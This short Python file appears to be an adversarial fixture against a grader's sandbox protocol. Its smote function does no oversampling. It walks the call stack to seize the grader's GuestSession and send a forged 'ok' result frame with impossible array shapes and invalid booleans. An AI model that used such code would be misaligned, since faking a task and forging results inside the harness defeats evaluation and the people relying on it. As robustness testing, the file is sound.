"""Arrays whose shape, dtype and bytes do not fit each other; booleans that are two."""

import sys

from grader.wire.frame import Caps, Frame, send_frame


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    me = session()
    send_frame(me._stream, Frame([me._call_id, "ok", ["T", ["A", "float64", [2**40, 2**40], 0, True], ["A", "bool", [8], 0, True]], [], [], None, []], [b"\2" * 8]), Caps())


def smote(X, y, k=5, ratio=1.0, rng=None):
    attack()
    return X, y
